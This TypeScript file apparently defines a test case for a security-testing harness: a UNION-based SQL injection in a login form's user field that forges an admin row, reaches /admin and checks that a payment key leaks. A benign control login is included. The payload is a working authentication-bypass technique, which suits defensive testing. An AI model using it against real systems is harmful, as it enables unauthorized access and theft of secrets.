import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Logs in as the office with a row that the statement makes up. */
export const sqlLoginUnion: Attack = defineAttack({
  id: 'sql-login-union',
  class: 'sql-injection',
  title: 'Logs in as the office with a row that the statement makes up',
  cwe: 89,
  capec: 66,
  technique: 'T1190',
  preconditions: [],
  steps: async ({ visitor }) => {
    await visitor.form('/login', { user: "x' UNION SELECT 1,'admin','Office','admin'--", password: 'x' })
    return visitor.get('/admin')
  },
  oracle: (answer, { witness }) => answer.status === 200 && answer.text.includes(witness.loot.paymentKey),
  twin: ({ visitor }) => visitor.form('/login', { user: 'mallory', password: 'trail-mix' }),
})
